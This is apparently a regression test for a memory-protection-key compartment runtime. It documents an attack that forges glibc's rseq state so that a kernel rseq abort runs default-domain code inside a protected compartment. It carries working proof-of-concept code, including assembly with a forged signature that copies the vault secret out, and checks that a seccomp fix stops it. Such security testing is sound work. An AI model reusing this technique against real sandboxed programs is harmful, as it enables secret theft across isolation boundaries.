// Review 23, attacker model A (key-0 stores only), program built with
// -fno-pkey-syscall-filter: one store gives a thread that glibc starts by
// itself an rseq registration that nothing takes away; a second store
// sends that thread, inside a compartment, to code of the program's with
// the compartment's PKRU.
//
// Review 21's fix (runtime/rseq.c) unregisters glibc's rseq area in the
// main thread at start-up (cpu_id becomes glibc's "registration failed")
// and in every thread the runtime's pthread_create trampoline starts;
// without the filter nothing else refuses rseq. glibc's pthread_create
// gives the new thread a registration when the creator's cpu_id is not
// negative, and cpu_id is key-0 memory (the creator's TCB): the attacker
// stores 0 into the main thread's. glibc also makes threads with its
// internal __pthread_create, past the interposer and its trampoline:
// timer_create's SIGEV_THREAD starts a helper thread (created by main
// here, so it inherits the forged state) and one thread per expiry (also
// aio, mq_notify). The expiry thread registers glibc's area and keeps it;
// its notify function calls the vault. The attacker (main thread, stores
// only) points that thread's rseq_cs at a descriptor of its own (key-0
// memory) covering the vault's code, with abort_ip at a default-domain
// function preceded by glibc's signature RSEQ_SIG 0x53053053 (as every
// rseq abort handler is, e.g. librseq's: `ud1 0x53053053(%rip), %edi`).
// On a preemption in the vault the kernel moves the thread there, PKRU
// unchanged: that code copies the vault's secret to key-0 memory. The
// thread's TCB address is published by the program here for brevity; a
// model-A attacker reads it from glibc's key-0 list of threads.
//
// Seen in the guest: with the store, ATTACK SUCCEEDED (the secret read
// back); without it (control), the expiry thread has no registration.
// With the filter the same store makes the next new thread's registration
// fail with ENOSYS, and glibc aborts the process ("Fatal glibc error:
// rseq registration failed"): no break (model A can crash the program
// anyway). A pthread_create thread with the forged state registers, then
// the trampoline unregisters it (its cpu_id is then >= 0); a racing store
// of a negative cpu_id between the two would make bh_rseq_off skip the
// unregistration (not tried: the guest has one CPU); bh_rseq_off should
// not trust cpu_id either (unregister always; EINVAL means none).
//
// Key-0 memory decides whether a glibc thread registers (glibc 2.36
// pthread_create: the creator's cpu_id >= 0 sets ATTR_FLAG_DO_RSEQ in the
// new thread's struct pthread, key-0 memory too), so no code in the
// trampoline covers threads glibc starts itself. Fixed: without the
// filter the runtime installs a seccomp filter of one rule, rseq answers
// ENOSYS (runtime/rseq.c); the forged state now makes glibc abort the
// process when the expiry thread's registration fails, as with the filter.
// REQUIRES: pku
// RUN: %bulkhead_clang -fpkey-compartments -fno-pkey-syscall-filter -O2 -pthread %s -o %t
// RUN: %run %t | FileCheck %s --check-prefix=CONTROL
// CONTROL: notification thread's rseq: off
// CONTROL: held: no abort
// RUN: not %run %t store-cpu-id 2>&1 | FileCheck %s
// Not root: the one-rule filter then needs no_new_privs.
// RUN: not %run /usr/bin/setpriv --reuid=65534 --regid=65534 --clear-groups %t store-cpu-id 2>&1 | FileCheck %s
// CHECK: main thread's rseq: off
// CHECK-NOT: ATTACK SUCCEEDED
// CHECK: Fatal glibc error: rseq registration failed
#define _GNU_SOURCE
#include <bulkhead.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/rseq.h>
#include <time.h>
#include <unistd.h>

BULKHEAD_DATA(vault) static char vault_secret[64];
char *secret_at; /* its address (not a secret), for steal */
volatile char leak[64];
volatile int leaked;
static volatile int stop;
static struct rseq *volatile notify_area; /* the notification thread's */
static volatile int notify_rseq = -3;

static struct rseq *rseq_area(void) {
  return (struct rseq *)((char *)__builtin_thread_pointer() + __rseq_offset);
}

BULKHEAD_ENTRY(vault) void vault_init(void) {
  snprintf(vault_secret, sizeof vault_secret, "vault-secret-%d", 2323);
}

BULKHEAD_ENTRY(vault) unsigned vault_spin(unsigned n) {
  unsigned h = 0;
  for (unsigned i = 0; i < n; i++)
    h = h * 31 + ((volatile char *)vault_secret)[i & 15];
  return h;
}

/* A default-domain rseq abort handler, as a program using rseq has one:
 * preceded by glibc's signature. It copies the secret into key-0 memory
 * and ends its thread. */
__asm__(".text\n"
        ".p2align 4\n"
        ".byte 0x0f, 0xb9, 0x3d, 0x53, 0x30, 0x05, 0x53\n"
        ".globl rev23_abort\n"
        "rev23_abort:\n"
        "  movq secret_at(%rip), %rsi\n"
        "  leaq leak(%rip), %rdi\n"
        "  movl $63, %ecx\n"
        "1: movb (%rsi), %al\n"
        "  movb %al, (%rdi)\n"
        "  incq %rsi\n"
        "  incq %rdi\n"
        "  decl %ecx\n"
        "  jnz 1b\n"
        "  movl $1, leaked(%rip)\n"
        "2: movl $60, %eax\n"
        "  xorl %edi, %edi\n"
        "  syscall\n"
        "  jmp 2b\n");
extern char rev23_abort[];

/* The timer's notify function: honest work in the vault. */
static void tick(union sigval v) {
  (void)v;
  notify_rseq = (int32_t)rseq_area()->cpu_id;
  notify_area = rseq_area();
  while (!stop && !leaked)
    vault_spin(100000);
}

static void *spinner(void *unused) {
  (void)unused;
  while (!stop && !leaked) {
  }
  return NULL;
}

static struct rseq_cs cs __attribute__((aligned(32)));

static int argc_;
static char **argv_;
static int has_arg(const char *a) {
  for (int i = 1; i < argc_; i++)
    if (!strcmp(argv_[i], a))
      return 1;
  return 0;
}

int main(int argc, char **argv) {
  argc_ = argc, argv_ = argv;
  setvbuf(stdout, NULL, _IONBF, 0);
  vault_init();
  secret_at = vault_secret;
  printf("main thread's rseq: %s\n",
         (int32_t)rseq_area()->cpu_id < 0 ? "off" : "registered");
  pthread_t sp[3];
  for (int i = 0; i < 3; i++)
    pthread_create(&sp[i], NULL, spinner, NULL);
  /* The attacker's first store: glibc's pthread_create gives a new thread
   * an rseq registration when its creator's cpu_id is not negative. */
  if (has_arg("store-cpu-id"))
    rseq_area()->cpu_id = 0;
  struct sigevent ev;
  memset(&ev, 0, sizeof ev);
  ev.sigev_notify = SIGEV_THREAD;
  ev.sigev_notify_function = tick;
  timer_t timer;
  if (timer_create(CLOCK_MONOTONIC, &ev, &timer)) {
    perror("timer_create");
    return 1;
  }
  struct itimerspec its = {.it_value = {0, 10 * 1000 * 1000}};
  timer_settime(timer, 0, &its, NULL);
  for (int i = 0; i < 500 && !notify_area; i++)
    usleep(10000);
  printf("notification thread's rseq: %s\n",
         !notify_area ? "never ran"
         : notify_rseq < 0 ? "off" : "registered");
  void *body;
  __asm__("leaq __bulkhead_body.vault_spin(%%rip), %0" : "=r"(body));
  cs.start_ip = (uintptr_t)body, cs.post_commit_offset = 192;
  if ((uintptr_t)rev23_abort - cs.start_ip < cs.post_commit_offset)
    cs.post_commit_offset = (uintptr_t)rev23_abort - cs.start_ip;
  cs.abort_ip = (uintptr_t)rev23_abort;
  /* The attacker: stores only. */
  for (long i = 0; notify_area && i < 200000000L && !leaked; i++)
    notify_area->rseq_cs = (uintptr_t)&cs;
  stop = 1;
  if (leaked)
    printf("ATTACK SUCCEEDED: the kernel's rseq abort ran default-domain code "
           "in the vault on glibc's timer thread: %s\n", (const char *)leak);
  else
    printf("held: no abort reached the program's handler in the vault\n");
  printf("attacks-rev23-rseq-timer-thread: done\n");
  return 0;
}
